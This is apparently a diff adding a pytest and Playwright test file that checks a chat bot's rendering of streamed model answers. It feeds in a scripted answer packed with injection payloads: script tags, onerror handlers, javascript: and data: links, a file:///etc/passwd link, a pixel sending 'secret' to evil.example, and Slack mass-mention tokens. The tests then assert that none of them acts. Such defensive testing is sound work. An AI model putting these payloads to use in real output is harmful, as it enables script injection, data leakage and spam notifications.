@@ -1,0 +1,134 @@
+"""What a model writes can only be read: an answer full of attacks, from the vendor's stream to a real browser."""
+
+from collections.abc import AsyncIterator
+
+import pytest
+import pytest_asyncio
+from playwright.async_api import Locator, Page, Route, expect
+
+from bot.settings import Settings
+from sandbox.markdown import to_html
+from sandbox.server import Sandbox
+from tests.browser import Visit, browser, visit
+from tests.scenarios.conftest import running, says
+from tests.streams.server import VendorServer
+
+__all__ = ["browser", "visit"]
+pytestmark = pytest.mark.asyncio(loop_scope="module")
+
+ATTACKS = """\
+<script>window.caught = 1</script> <img src=x onerror="window.caught = 2"> <iframe src="https://evil.example"></iframe>
+
+&lt;script&gt;window.caught = 3&lt;/script&gt; &#60;img src=x onerror=window.caught=4&#62;
+
+[run](javascript:window.caught=5) [data](data:text/html,<script>opener.caught=6</script>) [file](file:///etc/passwd)
+
+![pixel](https://evil.example/pixel.png?q=secret) <style>body { display: none }</style>
+
+<!channel> <!here> <!everyone> <@U0ADA> <#C0GENERAL> <!subteam^S012AB3CD> <!date^1392734382^{date}|now>
+
+&lt;!channel&gt; &amp;lt;!channel&amp;gt; `<!channel>` **<@U0ADA>** [<!here>](https://a.example) <<!channel>>
+
+<https://evil.example|your bank> <mailto:a@evil.example|write>
+
+| <!channel> | <@U0ADA> |
+|--|--|
+| <!here> | <img src=x onerror="window.caught = 7"> |
+
+```html
+<!channel> <script>window.caught = 8</script>
+```
+
+```"><script>window.caught=9</script>
+code
+```
+
+[real link](https://docs.example/page) and then the end.
+"""
+
+
+@pytest_asyncio.fixture(loop_scope="module")
+async def sandbox() -> AsyncIterator[Sandbox]:
+    async with Sandbox() as sandbox, VendorServer() as vendor:
+        vendor.script(says(ATTACKS, pause_s=0.003))
+        settings = Settings(
+            slack_bot_token=sandbox.bot_token,
+            slack_app_token=sandbox.app_token,
+            slack_api_url=sandbox.api_url,
+            openai_base_url=f"{vendor.url}/v1",
+            models=("openai/test",),
+            database_url="sqlite://",
+        )
+        async with running(settings):
+            yield sandbox
+
+
+@pytest_asyncio.fixture(loop_scope="module")
+async def elsewhere() -> list[str]:
+    """Requests to any place but the sandbox."""
+    return []
+
+
+@pytest_asyncio.fixture(loop_scope="module")
+async def page(sandbox: Sandbox, visit: Visit, elsewhere: list[str]) -> Page:
+    page = await visit(sandbox.url, viewport={"width": 1280, "height": 900})
+
+    async def on_request(route: Route) -> None:
+        if route.request.url.startswith(sandbox.url):
+            await route.continue_()
+        else:
+            elsewhere.append(route.request.url)
+            await route.fulfill(body="elsewhere", content_type="text/html")
+
+    await page.context.route("**/*", on_request)
+    return page
+
+
+async def answered(page: Page) -> Locator:
+    """The whole answer, as the page shows it."""
+    await page.locator("#main-box").fill("@typist do your worst")
+    await page.locator("#main-box").press("Enter")
+    answer = page.get_by_role("region", name="Thread").locator(".message").last.locator(".body")
+    await expect(answer).to_contain_text("and then the end.", timeout=20_000)
+    await expect(answer).not_to_contain_text("Writing…")
+    return answer
+
+
+async def test_nothing_in_an_answer_acts_while_it_grows_or_in_the_end(
+    page: Page, sandbox: Sandbox, elsewhere: list[str]
+) -> None:
+    answer = await answered(page)
+    assert await page.evaluate("window.caught") is None
+    assert await page.evaluate("window.getComputedStyle(document.body).display") != "none"
+    for element in ("script", "img", "iframe", "style", "form", "input", "[onerror]", "[style]", ".mention"):
+        await expect(answer.locator(element)).to_have_count(0)
+    assert elsewhere == []
+    assert sandbox.workspace.notified == []
+    _, reply = sandbox.messages("general", sandbox.messages("general")[0].ts)
+    revisions = sandbox.revisions("general", reply.ts)
+    assert len(revisions) > 2
+    shown = [to_html(block["text"]) for r in revisions for block in r.blocks if block["type"] == "markdown"]
+    assert not any('class="mention"' in html for html in shown)
+
+
+async def test_what_was_meant_as_text_is_read_as_it_was_written(page: Page) -> None:
+    answer = await answered(page)
+    for text in ("<!channel> <!here> <!everyone> <@U0ADA>", "<script>window.caught = 1</script>"):
+        await expect(answer).to_contain_text(text)
+
+
+async def test_a_link_leads_out_only_when_it_is_pressed_and_takes_nothing_along(
+    page: Page, elsewhere: list[str]
+) -> None:
+    answer = await answered(page)
+    for link in await answer.locator("a[href]").all():
+        assert (await link.get_attribute("href") or "").startswith(("https://", "mailto:"))
+        assert await link.get_attribute("rel") == "noopener noreferrer"
+        assert await link.get_attribute("target") == "_blank"
+    assert elsewhere == []
+    async with page.context.expect_page() as opening:
+        await answer.get_by_role("link", name="real link").click()
+    opened = await opening.value
+    await opened.wait_for_load_state()
+    assert elsewhere == ["https://docs.example/page"]
+    assert await opened.evaluate("[window.opener, document.referrer]") == [None, ""]
